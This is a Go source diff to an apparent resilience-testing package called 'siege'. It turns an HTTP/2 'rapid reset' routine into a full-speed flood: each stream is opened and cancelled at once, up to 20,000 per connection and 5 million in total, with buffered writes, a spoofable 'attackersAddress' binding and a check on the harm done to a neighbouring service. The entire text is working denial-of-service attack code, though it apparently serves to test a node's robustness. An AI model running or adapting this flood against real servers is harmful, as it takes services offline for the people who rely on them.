@@ -1,12 +1,13 @@
 package siege
 
 import (
+	"bufio"
 	"bytes"
 	"context"
+	"fmt"
 	"io"
 	"net"
 	"sync/atomic"
-	"time"
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
@@ -14,33 +15,45 @@ import (
 
 const (
 	resetters           = 2
-	resetsPerConnection = 50
-	resetsLeast         = 500
-	// resetPause makes it a thousand a second, fewer where the node takes long: what the machine can do at most would measure
-	// the machine.
-	resetPause = 80 * time.Millisecond
+	resetsPerConnection = 20_000 // far more than a client takes back that has a use for its calls
+	resetsLeast         = 5_000
+	// resetsMost bounds the streams of the attack, however fast the machine is.
+	resetsMost = 5_000_000
+	// resetBuffer is what of them leaves at once: a system call for each stream would take longer than the stream.
+	resetBuffer = 32 << 10
 )
 
-// resetRapidly opens streams over HTTP/2 and takes each back at once, so that the node begins what nobody waits for.
+// resetRapidly opens streams over HTTP/2 and takes each back at once, so that the node begins what nobody waits for, as fast as it
+// can; where the node ends the connection, on another. Whoever is at the same address is served.
 func resetRapidly(ctx context.Context, s *stage) error {
-	ctx, end := s.flooding(ctx, s.Size.Flood)
-	defer end()
-	var reset atomic.Int64
-	bounded(ctx, resetters, floodMost/resetsPerConnection, func(ctx context.Context, _ int) {
-		n := s.resetOnConnection(ctx)
-		reset.Add(n)
-		s.sent.Add(n)
-		wait(ctx, resetPause)
+	var connections, streams, whole atomic.Int64
+	err := s.besideNeighbour(ctx, func() {
+		ctx, end := s.flooding(ctx, s.Size.Flood)
+		defer end()
+		bounded(ctx, resetters, resetsMost/resetsPerConnection, func(ctx context.Context, _ int) {
+			n, taken := s.resetOnConnection(ctx)
+			connections.Add(1)
+			streams.Add(n)
+			s.sent.Add(n)
+			if taken {
+				whole.Add(1)
+			}
+		})
 	})
-	s.reach("streams reset", int(reset.Load()), resetsLeast)
-	return nil
+	s.reach("streams sent and reset", int(streams.Load()), resetsLeast)
+	s.figure(
+		fmt.Sprintf("connections that could reset %d streams", resetsPerConnection),
+		float64(whole.Load()), 0, "", fmt.Sprintf("of %d connections", connections.Load()),
+	)
+	return err
 }
 
-// resetOnConnection resets streams on one connection, until the node hangs up or there have been enough.
-func (s *stage) resetOnConnection(ctx context.Context) (count int64) {
-	conn, err := new(net.Dialer).DialContext(ctx, "tcp", s.node.address)
+// resetOnConnection resets streams on one connection, until the node ends it or there have been enough. whole says that the node
+// took all of them.
+func (s *stage) resetOnConnection(ctx context.Context) (count int64, whole bool) {
+	conn, err := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackersAddress)}}).DialContext(ctx, "tcp", s.node.address)
 	if err != nil {
-		return 0
+		return 0, false
 	}
 	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
 	var drained atomic.Bool
@@ -49,9 +62,10 @@ func (s *stage) resetOnConnection(ctx context.Context) (count int64) {
 	defer func() { _ = conn.Close() }()
 	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
 		close(done)
-		return 0
+		return 0, false
 	}
-	framer := http2.NewFramer(conn, conn)
+	out := bufio.NewWriterSize(conn, resetBuffer)
+	framer := http2.NewFramer(out, conn)
 	go func() { // what the node says is not heard, and does not fill the connection
 		defer close(done)
 		for {
@@ -60,13 +74,18 @@ func (s *stage) resetOnConnection(ctx context.Context) (count int64) {
 				drained.Store(true)
 				return
 			}
-			if ping, is := frame.(*http2.PingFrame); is && ping.IsAck() {
-				close(caughtUp)
+			switch frame := frame.(type) {
+			case *http2.GoAwayFrame:
+				drained.Store(true)
+			case *http2.PingFrame:
+				if frame.IsAck() {
+					close(caughtUp)
+				}
 			}
 		}
 	}()
 	if framer.WriteSettings() != nil || framer.WriteSettingsAck() != nil {
-		return 0
+		return 0, false
 	}
 	var head bytes.Buffer
 	encoder := hpack.NewEncoder(&head)
@@ -80,16 +99,17 @@ func (s *stage) resetOnConnection(ctx context.Context) (count int64) {
 		}
 		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true}) != nil ||
 			framer.WriteData(stream, true, []byte(`{"pageSize":100}`)) != nil || framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
-			return count
+			return count, false
 		}
 		count++
 	}
-	if framer.WritePing(false, [8]byte{}) == nil { // answered once all before it was read
+	if !drained.Load() && framer.WritePing(false, [8]byte{}) == nil && out.Flush() == nil { // answered once all before it was read
 		select {
 		case <-caughtUp:
+			return count, count == resetsPerConnection
 		case <-done:
 		case <-ctx.Done():
 		}
 	}
-	return count
+	return count, false
 }
